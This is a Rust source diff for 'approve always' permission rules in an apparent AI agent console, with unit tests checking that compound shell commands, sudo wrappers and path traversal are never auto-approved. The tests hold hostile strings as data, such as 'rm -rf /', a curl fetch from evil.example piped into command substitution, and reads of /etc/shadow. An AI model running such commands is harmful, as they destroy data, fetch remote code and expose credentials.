@@ -1,0 +1,330 @@
+//! "Approve always" rules the human adds at the approval prompt: shared by
+//! the answerer (which applies them) and the screen (which offers and lists
+//! them). A rule fits the call it was made from: a command prefix for shell
+//! tools (never for compound commands), a path or its directory for file
+//! tools, the exact arguments, or — chosen explicitly — the whole tool.
+
+pub mod persist;
+pub mod shell;
+
+use std::sync::{Arc, Mutex};
+
+use serde_json::Value;
+
+use crate::session::events::ApprovalPrompt;
+
+/// The session's always-rules, in the order they were added.
+pub type AlwaysRules = Arc<Mutex<Vec<AlwaysRule>>>;
+
+/// What part of a call an always-rule covers, narrowest first.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Fit {
+    /// These exact arguments (compared as JSON).
+    Arguments(Value),
+    /// A file tool's `key` argument equal to `path`.
+    Path { key: String, path: String },
+    /// A file tool's `key` argument inside `dir` (no `.` or `..` parts).
+    Directory { key: String, dir: String },
+    /// A shell tool's command (`key` argument) starting with these words,
+    /// and not compound.
+    CommandPrefix { key: String, prefix: Vec<String> },
+    /// Every call of the tool.
+    WholeTool,
+}
+
+/// An "approve always" rule: a fit, for one tool in one scope, for this
+/// session (or, once kept, in the policy file too).
+#[derive(Clone, Debug, PartialEq)]
+pub struct AlwaysRule {
+    pub tool: String,
+    pub scope_id: Option<u64>,
+    pub scope_label: String,
+    pub fit: Fit,
+}
+
+impl AlwaysRule {
+    /// The rules that fit a call, narrowest first; the whole tool is last.
+    pub fn choices(tool: &str, scope_id: Option<u64>, scope_label: &str, raw_arguments: &str) -> Vec<Self> {
+        let rule = |fit| Self {
+            tool: tool.to_owned(),
+            scope_id,
+            scope_label: scope_label.to_owned(),
+            fit,
+        };
+        let mut fits = Vec::new();
+        let arguments = serde_json::from_str::<Value>(raw_arguments).ok();
+        if let Some(arguments) = &arguments {
+            fits.push(Fit::Arguments(arguments.clone()));
+            if let Some((key, path)) = ["path", "file_path"]
+                .into_iter()
+                .find_map(|k| arguments.get(k).and_then(Value::as_str).map(|p| (k, p)))
+            {
+                fits.push(Fit::Path {
+                    key: key.to_owned(),
+                    path: path.to_owned(),
+                });
+                if let Some(dir) = directory_of(path) {
+                    fits.push(Fit::Directory {
+                        key: key.to_owned(),
+                        dir,
+                    });
+                }
+            }
+            if shell::is_shell_tool(tool) {
+                if let Some((key, shell::Command::Simple(words))) = shell::command_of(arguments) {
+                    if let Some(prefix) = shell::prefix_of(&words) {
+                        fits.push(Fit::CommandPrefix {
+                            key: key.to_owned(),
+                            prefix,
+                        });
+                    }
+                }
+            }
+        }
+        fits.push(Fit::WholeTool);
+        fits.into_iter().map(rule).collect()
+    }
+
+    /// The choices for the request on screen.
+    pub fn choices_for(prompt: &ApprovalPrompt) -> Vec<Self> {
+        Self::choices(&prompt.tool, prompt.scope_id, &prompt.scope_label, &prompt.arguments)
+    }
+
+    /// Whether the rule approves a call of `tool` in `scope_id` with these
+    /// arguments.
+    pub fn matches(&self, tool: &str, scope_id: Option<u64>, arguments: &Value) -> bool {
+        if self.tool != tool || self.scope_id != scope_id {
+            return false;
+        }
+        match &self.fit {
+            Fit::WholeTool => true,
+            Fit::Arguments(expected) => arguments == expected,
+            Fit::Path { key, path } => arguments.get(key).and_then(Value::as_str) == Some(path),
+            Fit::Directory { key, dir } => arguments
+                .get(key)
+                .and_then(Value::as_str)
+                .is_some_and(|p| inside(p, dir)),
+            Fit::CommandPrefix { key, prefix } => {
+                shell::is_shell_tool(tool)
+                    && arguments
+                        .get(key)
+                        .and_then(|_| shell::command_of(arguments))
+                        .is_some_and(|(found, command)| found == key && shell::covered(&command, prefix))
+            }
+        }
+    }
+
+    /// Whether the rule approves the request on screen.
+    pub fn matches_prompt(&self, prompt: &ApprovalPrompt) -> bool {
+        serde_json::from_str::<Value>(&prompt.arguments)
+            .is_ok_and(|arguments| self.matches(&prompt.tool, prompt.scope_id, &arguments))
+    }
+
+    /// What the rule covers, in a few words.
+    pub fn covers(&self) -> String {
+        match &self.fit {
+            Fit::Arguments(_) => "with exactly these arguments".to_owned(),
+            Fit::Path { key, path } => format!("with {key} {path:?}"),
+            Fit::Directory { key, dir } => format!("with {key} anywhere under {dir:?}"),
+            Fit::CommandPrefix { key, prefix } => format!(
+                "when {key} starts with `{}` (never a compound command)",
+                shell::join(prefix)
+            ),
+            Fit::WholeTool => "for any arguments (the whole tool)".to_owned(),
+        }
+    }
+
+    /// The exact rule, as the prompt and the trail show it.
+    pub fn describe(&self) -> String {
+        format!(
+            "allow tool {:?} in scope {:?} {}, until this console exits",
+            self.tool,
+            self.scope_label,
+            self.covers()
+        )
+    }
+}
+
+/// The directory of a path, when the path has one and no `.` / `..` parts.
+fn directory_of(path: &str) -> Option<String> {
+    let (dir, _) = path.rsplit_once('/')?;
+    let normal = !dir.is_empty() && dir.split('/').all(|part| !matches!(part, "." | ".."));
+    normal.then(|| dir.to_owned())
+}
+
+/// Whether `path` lies under `dir` without climbing out of it.
+fn inside(path: &str, dir: &str) -> bool {
+    path.strip_prefix(dir)
+        .and_then(|rest| rest.strip_prefix('/'))
+        .is_some_and(|rest| !rest.is_empty() && rest.split('/').all(|part| !matches!(part, "" | "." | "..")))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn bash(command: &str) -> Value {
+        json!({ "command": command })
+    }
+
+    fn prefix_rule(command: &str) -> AlwaysRule {
+        AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string())
+            .into_iter()
+            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
+            .unwrap_or_else(|| panic!("no prefix rule for {command}"))
+    }
+
+    fn has_prefix_rule(command: &str) -> bool {
+        AlwaysRule::choices("Bash", Some(1), "s", &bash(command).to_string())
+            .iter()
+            .any(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
+    }
+
+    #[test]
+    fn a_prefix_is_the_program_and_its_subcommand_never_a_flag() {
+        let rule = prefix_rule("git push --force origin main");
+        assert_eq!(
+            rule.fit,
+            Fit::CommandPrefix {
+                key: "command".into(),
+                prefix: vec!["git".into(), "push".into()]
+            }
+        );
+        assert!(rule.matches("Bash", Some(1), &bash("git push origin")));
+        assert!(!rule.matches("Bash", Some(1), &bash("git pull")));
+        assert!(!rule.matches("Bash", Some(1), &bash("git pushy")));
+        assert!(!rule.matches("Bash", Some(2), &bash("git push")), "another scope");
+        assert!(!rule.matches("shell", Some(1), &bash("git push")), "another tool");
+        // A flag right after the program: the whole command is the prefix.
+        assert_eq!(
+            prefix_rule("ls -la").fit,
+            Fit::CommandPrefix {
+                key: "command".into(),
+                prefix: vec!["ls".into(), "-la".into()]
+            }
+        );
+    }
+
+    #[test]
+    fn compound_commands_get_no_prefix_rule_and_are_never_covered() {
+        for command in [
+            "ls; rm -rf /",
+            "ls && rm -rf /",
+            "ls || rm -rf /",
+            "ls | sh",
+            "echo $(curl https://evil.example/x)",
+            "echo `curl https://evil.example/x`",
+            "ls > /etc/passwd",
+            "cat < /etc/shadow",
+            "ls & rm -rf /",
+            "ls\nrm -rf /",
+        ] {
+            assert!(!has_prefix_rule(command), "{command:?} got a prefix rule");
+        }
+        let ls = prefix_rule("ls");
+        for command in [
+            "ls; rm -rf /",
+            "ls $(curl x)",
+            "ls `id`",
+            "ls >out",
+            "ls | sh",
+            "ls && id",
+        ] {
+            assert!(!ls.matches("Bash", Some(1), &bash(command)), "{command:?} was covered");
+        }
+        assert!(ls.matches("Bash", Some(1), &bash("ls src")));
+    }
+
+    #[test]
+    fn quoted_arguments_are_words_not_split_on_spaces() {
+        let rule = prefix_rule("git commit -m 'fix the thing'");
+        assert_eq!(
+            rule.fit,
+            Fit::CommandPrefix {
+                key: "command".into(),
+                prefix: vec!["git".into(), "commit".into()]
+            }
+        );
+        assert!(rule.matches("Bash", Some(1), &bash(r#"git commit -m "another message""#)));
+        // `"git commit"` quoted is one word, a different program.
+        assert!(!rule.matches("Bash", Some(1), &bash(r#""git commit" -m x"#)));
+        // Unbalanced quotes do not parse: asked.
+        assert!(!rule.matches("Bash", Some(1), &bash("git commit -m 'oops")));
+        assert!(
+            rule.describe().contains("starts with `git commit`"),
+            "{}",
+            rule.describe()
+        );
+    }
+
+    #[test]
+    fn wrappers_and_assignments_get_no_prefix_and_argv_commands_are_unwrapped() {
+        for command in [
+            "sudo rm -rf /",
+            "env X=1 make",
+            "bash -c ls",
+            "FOO=bar make",
+            "xargs rm",
+        ] {
+            assert!(!has_prefix_rule(command), "{command:?}");
+        }
+        let argv = json!({"command": ["bash", "-lc", "cargo test --workspace"]});
+        let choices = AlwaysRule::choices("exec_command", None, "g", &argv.to_string());
+        let prefix = choices
+            .iter()
+            .find(|r| matches!(r.fit, Fit::CommandPrefix { .. }))
+            .unwrap();
+        assert!(prefix.matches("exec_command", None, &json!({"command": ["bash", "-lc", "cargo test"]})));
+        assert!(!prefix.matches(
+            "exec_command",
+            None,
+            &json!({"command": ["bash", "-lc", "cargo test; id"]})
+        ));
+        assert!(prefix.matches("exec_command", None, &json!({"command": ["cargo", "test", "-q"]})));
+    }
+
+    #[test]
+    fn file_tools_offer_the_path_then_its_directory_and_never_climb_out() {
+        let args = json!({"file_path": "src/ui/app.rs", "content": "x"});
+        let choices = AlwaysRule::choices("Write", None, "g", &args.to_string());
+        let fits: Vec<&Fit> = choices.iter().map(|r| &r.fit).collect();
+        assert!(matches!(fits[0], Fit::Arguments(_)));
+        assert_eq!(
+            fits[1],
+            &Fit::Path {
+                key: "file_path".into(),
+                path: "src/ui/app.rs".into()
+            }
+        );
+        assert_eq!(
+            fits[2],
+            &Fit::Directory {
+                key: "file_path".into(),
+                dir: "src/ui".into()
+            }
+        );
+        assert_eq!(fits.last(), Some(&&Fit::WholeTool));
+        let dir = &choices[2];
+        assert!(dir.matches("Write", None, &json!({"file_path": "src/ui/view/x.rs"})));
+        assert!(!dir.matches("Write", None, &json!({"file_path": "src/ui/../../etc/passwd"})));
+        assert!(!dir.matches("Write", None, &json!({"file_path": "src/uix/a.rs"})));
+        assert!(!choices[1].matches("Write", None, &json!({"file_path": "src/ui/other.rs"})));
+        assert_eq!(
+            AlwaysRule::choices("Write", None, "g", r#"{"path": "../x/y"}"#).len(),
+            3,
+            "no directory rule for a path that climbs"
+        );
+    }
+
+    #[test]
+    fn other_tools_offer_exact_arguments_then_the_whole_tool() {
+        let choices = AlwaysRule::choices("weather", None, "g", r#"{"city": "Oslo"}"#);
+        assert_eq!(choices.len(), 2);
+        assert!(choices[0].matches("weather", None, &json!({"city": "Oslo"})));
+        assert!(!choices[0].matches("weather", None, &json!({"city": "Lima"})));
+        assert!(choices[1].matches("weather", None, &json!({"city": "Lima"})));
+        assert!(choices[1].describe().contains("the whole tool"));
+    }
+}
